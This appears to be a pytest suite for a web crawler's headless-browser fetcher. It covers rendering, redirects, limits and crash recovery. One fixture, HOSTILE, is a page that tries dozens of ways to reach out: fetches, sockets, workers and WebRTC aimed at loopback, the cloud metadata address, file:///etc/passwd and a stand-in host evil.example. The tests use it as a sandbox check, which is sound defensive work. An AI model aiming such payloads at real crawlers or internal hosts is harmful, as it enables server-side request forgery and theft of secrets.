"""Pages in a real browser: what they become, and that nothing leaves it but by the door.

Skipped where playwright or a browser is not installed; failed there with CLEW_REQUIRE_BROWSER, as in CI.
"""

import asyncio
import contextlib
import os
import signal
import socket

import pytest

from clew.errors import ConfigError, FetchError, Reason
from clew.fetch import HttpFetcher, HttpSettings, Request
from clew.fetch.browser import BrowserFetcher, BrowserSettings
from clew.fetch.subrequests import SubrequestLimits
from clew.run import CrawlConfig, Session
from clew.run.parsing import to_page
from clew.store import MemoryStore

pytestmark = [pytest.mark.slow, pytest.mark.browser]


class Site:
    """A server on loopback, known to the door by name; answers from a dict of paths."""

    def __init__(self, pages):
        self.pages = pages
        self.asked = []
        self.port = 0

    async def __aenter__(self):
        self._server = await asyncio.start_server(self._serve, "127.0.0.1", 0)
        self.port = self._server.sockets[0].getsockname()[1]
        return self

    async def __aexit__(self, *_):
        self._server.close()

    def url(self, path="/", host="site.example"):
        return f"http://{host}:{self.port}{path}"

    async def _serve(self, reader, writer):
        with contextlib.suppress(ConnectionError, asyncio.IncompleteReadError):
            head = (await reader.readuntil(b"\r\n\r\n")).decode()
            path = head.split(" ")[1]
            self.asked.append(path)
            found = self.pages.get(path, (404, ""))
            if callable(found):
                found = found()
            body, status, extra = found.encode() if isinstance(found, str) else b"", 200, ""
            if isinstance(found, tuple):
                status, extra = found[0], f"Location: {found[1]}\r\n" if found[1] else ""
            kind = "text/javascript" if path.endswith(".js") else "text/html; charset=utf-8"
            writer.write(
                f"HTTP/1.1 {status} X\r\nContent-Type: {kind}\r\n{extra}Content-Length: {len(body)}\r\n"
                "Connection: close\r\n\r\n".encode()
                + body
            )
            await writer.drain()
        writer.close()


async def lookup(host):
    return ["127.0.0.1"]


@contextlib.asynccontextmanager
async def browsing(pages=("*",), allow=("site.example",), **settings):
    door = HttpFetcher(HttpSettings(allow_private=allow, timeout=60.0), lookup=lookup)
    made = {"timeout": 60.0} | settings
    fetcher = BrowserFetcher(door, BrowserSettings(pages=pages, **made), "clew/0", delay=lambda host: 0.0)
    try:
        yield fetcher
    finally:
        await fetcher.close()


async def test_a_shell_is_rendered_to_its_text_and_links():
    pages = {
        "/": "<title>Shop</title><body><div id=app></div><script src=/app.js></script>",
        "/app.js": "fetch('/api?q=1').then(r => r.text()).then(t => { "
        "document.getElementById('app').innerHTML = t; document.title = 'Full'; })",
        "/api?q=1": "<h1>Wind farms</h1><a href='/one'>One &amp; only</a> <a href='two'>Zw\u00f6lf</a>",
        "/plain": "<p>"
        + "A page that needs no scripts. " * 20
        + "<script>document.body.innerHTML='x'</script>",
    }
    async with Site(pages) as site, browsing(("auto",)) as fetcher:
        reply = await fetcher.fetch(Request(site.url()))
        page = to_page(reply, 0)
        assert (page.title, page.text, page.rendered) == ("Full", "Wind farms\nOne & only Zw\u00f6lf", True)
        assert list(page.links.targets) == [site.url("/one"), site.url("/two")]
        assert b"<div id=app></div>" in reply.body
        assert (reply.subrequests, reply.truncated) == (3, False)
        assert site.asked == ["/", "/robots.txt", "/app.js", "/api?q=1"]
        plain = await fetcher.fetch(Request(site.url("/plain")))
        assert plain.rendered is None
        assert "needs no scripts" in to_page(plain, 0).text
        # The script is remembered; data is asked for again.
        await fetcher.fetch(Request(site.url()))
        assert site.asked[-2:] == ["/", "/api?q=1"]


async def test_one_browser_shows_many_pages():
    pages = {f"/{n}": f"<body><script>document.body.innerHTML = '<p>wind {n}</p>'</script>" for n in range(6)}
    async with Site(pages) as site, browsing() as fetcher:
        replies = await asyncio.gather(*(fetcher.fetch(Request(site.url(path))) for path in pages))
        assert [to_page(reply, 0).text for reply in replies] == [f"wind {n}" for n in range(6)]
        assert fetcher.browsers_started == 1


async def test_a_page_that_goes_elsewhere_says_where_and_its_links_keep_their_meaning():
    pages = {
        "/go": "<body><script>setTimeout(() => { location.href = '/there' }, 50)</script>",
        "/push": "<body><script>history.pushState({}, '', '/deep/er/');"
        " document.body.innerHTML = '<a href=x>x</a>'</script>",
        "/there": "<p>never asked for</p>",
    }
    async with Site(pages) as site, browsing() as fetcher:
        assert to_page(await fetcher.fetch(Request(site.url("/go"))), 0).refresh == site.url("/there")
        pushed = to_page(await fetcher.fetch(Request(site.url("/push"))), 0)
        assert list(pushed.links.targets) == [site.url("/deep/er/x")]
        assert "/there" not in site.asked


HOSTILE = """<!doctype html><html><head><title>start</title>
<link rel=prefetch href="http://127.0.0.1:TRAP/prefetch"><link rel=preconnect href="http://127.0.0.1:TRAP">
<link rel=dns-prefetch href="http://127.0.0.1:TRAP"><link rel=prerender href="http://127.0.0.1:TRAP/prerender">
<link rel=modulepreload href="http://127.0.0.1:TRAP/mod.js"><link rel=icon href="http://127.0.0.1:TRAP/icon.ico">
<link rel=stylesheet href="http://127.0.0.1:TRAP/s.css"><link rel=manifest href="http://127.0.0.1:TRAP/m.json">
<style>@import url(http://127.0.0.1:TRAP/i.css);
@font-face{font-family:f;src:url(http://127.0.0.1:TRAP/f.woff)} body{font-family:f;
background:url(http://127.0.0.1:TRAP/b.png)}</style>
<script type=speculationrules>{"prerender":[{"urls":["http://127.0.0.1:TRAP/spec","/spec"]}],
"prefetch":[{"urls":["http://127.0.0.1:TRAP/spec2"]}]}</script></head><body>
<p id=out>0</p><img src="http://127.0.0.1:TRAP/img.png"><iframe src="http://127.0.0.1:TRAP/frame"></iframe>
<iframe srcdoc="<script>fetch('http://127.0.0.1:TRAP/srcdoc')</script>"></iframe>
<iframe src="file:///etc/passwd" id=file></iframe><object data="http://127.0.0.1:TRAP/object"></object>
<embed src="http://127.0.0.1:TRAP/embed"><video src="http://127.0.0.1:TRAP/video.mp4" autoplay></video>
<form id=form method=post action="http://127.0.0.1:TRAP/form" target=fr><input name=a value=b></form>
<iframe name=fr></iframe><a id=dl href="http://127.0.0.1:TRAP/file.zip" download>x</a>
<script src="http://127.0.0.1:TRAP/s.js"></script><script src="/redirected.js"></script>
<script src="http://evil.example:TRAP/s.js"></script>
<script>
const at = "127.0.0.1:TRAP", say = (word) => { out.textContent += " " + word };
const quietly = (go) => { try { const r = go(); if (r && r.catch) r.catch(() => {}) } catch (e) {} };
const targets = ["http://" + at + "/fetch", "http://localhost:TRAP/", "http://[::1]:TRAP/", "http://0.0.0.0:TRAP/",
  "http://2130706433:TRAP/", "http://169.254.169.254/latest/meta-data/", "http://evil.example:TRAP/",
  "https://" + at + "/tls", "/redirect", "/redirect-twice", "file:///etc/passwd"];
for (const url of targets) for (const mode of ["cors", "no-cors"])
  quietly(() => fetch(url, {mode}).then(r => r.text()).then(t => say("GOT:" + t)));
for (const method of ["POST", "PUT", "DELETE", "OPTIONS"])
  quietly(() => fetch("http://" + at + "/" + method, {method, mode: "cors"}));
quietly(() => { const x = new XMLHttpRequest(); x.open("GET", "http://" + at + "/xhr"); x.send() });
quietly(() => { const x = new XMLHttpRequest(); x.open("GET", "http://" + at + "/sync", false); x.send() });
quietly(() => new WebSocket("ws://" + at + "/socket"));
quietly(() => new WebSocket("wss://" + at + "/socket"));
quietly(() => new WebSocket("ws://evil.example:TRAP/socket"));
quietly(() => new EventSource("http://" + at + "/events"));
quietly(() => navigator.sendBeacon("http://" + at + "/beacon", "x"));
quietly(() => fetch("http://" + at + "/keep", {keepalive: true, mode: "no-cors"}));
quietly(() => new WebTransport("https://" + at + "/transport"));
quietly(() => navigator.serviceWorker.register("/sw.js"));
quietly(() => import("http://" + at + "/module.js"));
const code = "try { fetch('http://" + at + "/worker', {mode: 'no-cors'}) } catch (e) {}" +
  "try { importScripts('http://" + at + "/imported.js') } catch (e) {}" +
  "try { new WebSocket('ws://" + at + "/worker-socket') } catch (e) {}" +
  "try { new WebTransport('https://" + at + "/worker-transport') } catch (e) {}";
const blob = URL.createObjectURL(new Blob([code], {type: "text/javascript"}));
quietly(() => new Worker(blob));
quietly(() => new SharedWorker(blob));
quietly(() => new Worker("/worker.js"));
quietly(() => {
  const peer = new RTCPeerConnection({iceServers: [{urls: ["stun:" + at, "stun:evil.example:TRAP"]},
    {urls: ["turn:" + at + "?transport=tcp", "turn:" + at], username: "u", credential: "c"}]});
  peer.createDataChannel("x"); peer.createOffer().then(o => peer.setLocalDescription(o));
});
quietly(() => window.open("http://" + at + "/popup"));
quietly(() => form.submit());
quietly(() => dl.click());
quietly(() => { alert("hello"); confirm("hello"); prompt("hello") });
quietly(() => say("FILE:" + document.getElementById("file").contentDocument.body.textContent));
say("ran"); document.title = "done";
setTimeout(() => { location.href = "http://" + at + "/navigate" }, 100);
</script></body></html>"""


@contextlib.asynccontextmanager
async def trap():
    """A port of this machine where every connection and datagram is counted."""
    met = []

    async def taken(reader, writer):
        met.append("tcp")
        writer.write(b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 6\r\n\r\nsecret")
        writer.close()

    class Datagrams(asyncio.DatagramProtocol):
        def datagram_received(self, data, address):
            met.append("udp")

    four = socket.create_server(("127.0.0.1", 0))
    port = four.getsockname()[1]
    sockets = [four]
    with contextlib.suppress(OSError):
        sockets.append(socket.create_server(("::1", port), family=socket.AF_INET6))
    servers = [await asyncio.start_server(taken, sock=one) for one in sockets]
    loop = asyncio.get_running_loop()
    transport, _ = await loop.create_datagram_endpoint(Datagrams, ("127.0.0.1", port))
    try:
        yield port, met
    finally:
        transport.close()
        for server in servers:
            server.close()


async def met_at_the_trap(allow):
    async with trap() as (port, met):
        bad = f"http://127.0.0.1:{port}"
        work = f"try {{ fetch('{bad}/w', {{mode: 'no-cors'}}) }} catch (e) {{}}"
        pages = {
            "/": HOSTILE.replace("TRAP", str(port)),
            "/redirect": (302, f"{bad}/redirected"),
            "/redirect-twice": (307, "/redirect"),
            "/redirected.js": (301, f"{bad}/redirected.js"),
            "/worker.js": f"{work}; importScripts('{bad}/x.js')",
            "/sw.js": work,
        }
        async with Site(pages) as site, browsing(allow=allow) as fetcher:
            reply = await fetcher.fetch(Request(site.url()))
        return reply.rendered.decode(), met


async def test_nothing_a_page_tries_reaches_this_machine():
    shown, met = await met_at_the_trap(("site.example",))
    assert "<title>done</title>" in shown
    assert " ran" in shown
    assert met == []
    assert "secret" not in shown
    assert "root:" not in shown


async def test_the_trap_does_catch_what_is_let_through():
    shown, met = await met_at_the_trap(("site.example", "127.0.0.1"))
    assert met.count("tcp") > 3
    assert "GOT:secret" in shown


async def test_a_page_that_never_settles_is_taken_as_it_is_when_its_time_is_up():
    pages = {
        "/": "<body><p id=n>0</p><script>const go = () => fetch('/more').then(go); go();"
        " n.textContent = 'kept'</script>",
        "/more": "more",
    }
    async with (
        Site(pages) as site,
        browsing(timeout=8.0, limits=SubrequestLimits(requests=100_000)) as fetcher,
    ):
        reply = await fetcher.fetch(Request(site.url()))
        assert reply.truncated
        assert to_page(reply, 0).text == "kept"


async def test_a_page_that_asks_without_end_is_cut_off_and_settles():
    pages = {
        "/": "<body><p id=n>0</p><script>const go = (i) => fetch('/m' + i).then(() => { n.textContent = i;"
        " go(i + 1) }); go(1)</script>"
    }
    async with Site(pages) as site, browsing(limits=SubrequestLimits(requests=12)) as fetcher:
        reply = await fetcher.fetch(Request(site.url()))
        assert (reply.subrequests, len(site.asked)) == (12, 13)
        assert to_page(reply, 0).text == "11"


async def test_scripts_that_do_not_let_go_fail_the_page_and_no_other():
    pages = {
        "/": "<body><p>x</p><script>setTimeout(() => { while (true); }, 50)</script>",
        "/fine": "<body><script>document.body.innerHTML = '<p>fine</p>'</script>",
    }
    async with Site(pages) as site, browsing(timeout=8.0) as fetcher:
        with pytest.raises(FetchError) as caught:
            await fetcher.fetch(Request(site.url()))
        assert caught.value.reason is Reason.BROWSER
        assert "did not let go" in caught.value.detail
        assert to_page(await fetcher.fetch(Request(site.url("/fine"))), 0).text == "fine"


async def test_a_rendered_page_is_cut_where_it_is_too_long():
    pages = {"/": "<body><script>document.body.innerHTML = '<p>' + 'wind '.repeat(100000) + '</p>'</script>"}
    async with Site(pages) as site, browsing(max_body=1000) as fetcher:
        reply = await fetcher.fetch(Request(site.url()))
        assert reply.truncated
        assert len(reply.rendered) < 1100


def _kill_browsers():
    """End the browsers that this process started, and nobody else's."""
    me, killed = os.getpid(), 0
    parents = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            with contextlib.suppress(OSError), open(f"/proc/{entry}/stat") as stat:
                fields = stat.read().rpartition(")")[2].split()
                parents[int(entry)] = int(fields[1])
    for pid in parents:
        above = parents.get(pid)
        while above is not None and above != me:
            above = parents.get(above)
        with contextlib.suppress(OSError), open(f"/proc/{pid}/cmdline", "rb") as line:
            if above == me and b"--headless" in line.read():
                os.kill(pid, signal.SIGKILL)
                killed += 1
    return killed


@pytest.mark.skipif(not os.path.isdir("/proc/self"), reason="needs /proc to find the browser's process")
async def test_a_crawl_survives_its_browser_and_tells_of_what_it_could_not_render():
    killed = []

    def bite():
        killed.append(_kill_browsers())
        return "x"

    pages = {
        "/": "<body><a href=/bad>bad</a><script>document.body.innerHTML += '<a href=/good>good</a>'</script>",
        "/bad": "<body><script>fetch('/bite').then(() => new Promise(() => {}))</script>",
        "/good": "<body><script>document.body.innerHTML = '<p>wind</p>'</script>",
        "/bite": bite,
    }
    async with Site(pages) as site, browsing() as fetcher:
        config = CrawlConfig(
            seeds=(site.url(),),
            match="wind",
            own=("site.example",),
            delay=0,
            concurrency=1,
            strategy="breadth-first",
        )
        store = MemoryStore()
        finished = await Session(config, store, fetcher=fetcher).run()
    assert len(killed) == 2
    assert all(killed)
    assert (finished.pages, finished.matches) == (2, 1)
    assert store.candidate(site.url("/bad")).reason == "browser"
    assert [page.rendered for page in store.pages()] == [True, True]
    assert store.counts().rendered == 2


async def test_a_program_that_is_no_browser_is_said_before_anything_is_fetched(tmp_path):
    program = tmp_path / "chromium"
    program.write_text("#!/bin/sh\nexit 1\n")
    program.chmod(0o755)
    async with browsing(program=program) as fetcher:
        with pytest.raises(ConfigError, match="does not start"):
            await fetcher.open()
